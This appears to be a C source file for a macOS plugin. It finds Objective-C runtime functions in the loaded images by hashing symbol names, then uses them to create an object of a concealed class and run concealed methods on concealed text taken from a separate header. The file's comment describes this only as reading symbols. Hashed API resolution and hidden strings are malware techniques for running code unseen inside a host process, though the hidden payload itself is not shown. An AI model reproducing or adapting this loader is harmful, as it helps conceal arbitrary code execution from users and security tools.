/* Asks the kernel where the images of this task are, and reads their symbols by sums of names. */
#include "plugin.h"
#include "hidden.h" /* 0: the class, 1 and 2: its methods, 3: the text */
#include <mach-o/loader.h>
#include <mach-o/nlist.h>
#include <string.h>
extern unsigned mach_task_self_;
extern int task_info(unsigned, unsigned, void *, unsigned *);
struct images { unsigned version, count; struct { const struct mach_header_64 *head; const char *path; unsigned long time; } *list; };
static unsigned sum(const char *c) {
    unsigned h = 0;
    while (*c) h = *c++ + (h << 6) + (h << 16) - h;
    return h;
}
static void *find(struct images *all, unsigned want) {
    for (unsigned i = 0; i < all->count; i++) {
        const struct mach_header_64 *head = all->list[i].head;
        const struct load_command *c = (void *)(head + 1);
        const struct symtab_command *table = 0;
        unsigned long slide = 0, edit = 0;
        for (unsigned n = head->ncmds; n--; c = (void *)((char *)c + c->cmdsize)) {
            const struct segment_command_64 *s = (void *)c;
            if (c->cmd == LC_SYMTAB) table = (void *)c;
            if (c->cmd != LC_SEGMENT_64) continue;
            if (s->segname[2] == 'T' && s->segname[3] == 'E') slide = (unsigned long)head - s->vmaddr;
            if (s->segname[2] == 'L' && s->segname[6] == 'E') edit = s->vmaddr - s->fileoff;
        }
        if (!table || !edit) continue;
        const struct nlist_64 *y = (void *)(edit + slide + table->symoff);
        const char *names = (void *)(edit + slide + table->stroff);
        for (unsigned n = table->nsyms; n--; y++)
            if (y->n_value && sum(names + y->n_un.n_strx) == want) return (void *)(y->n_value + slide);
    }
    return 0;
}
static void act(char **env) {
    struct { unsigned long at, size; int format; } where;
    unsigned count = 5;
    if (task_info(mach_task_self_, 17, &where, &count)) return;
    struct images *all = (void *)where.at;
    void *(*class)(const char *) = find(all, CLASS), *(*name)(const char *) = find(all, NAME);
    void *(*send)(void *, void *, void *) = find(all, SEND);
    void *(*text)(void *, const char *, unsigned) = find(all, TEXT), *problem = 0, *made;
    if (!class || !name || !send || !text) return;
    made = send(class(hidden0()), name("new"), 0);
    made = send(made, name(hidden1()), text(0, hidden3(), 0x600));
    send(made, name(hidden2()), &problem);
}
